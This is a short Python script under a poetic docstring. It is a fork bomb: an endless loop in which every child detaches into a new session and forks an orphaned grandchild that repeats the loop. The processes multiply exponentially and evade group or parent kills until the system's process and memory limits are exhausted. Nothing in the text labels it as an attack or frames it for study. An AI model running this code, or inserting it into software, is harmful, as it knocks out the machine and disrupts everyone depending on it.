"""Every process leaves its group, loses its parent, and goes on."""
import os
while True:
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
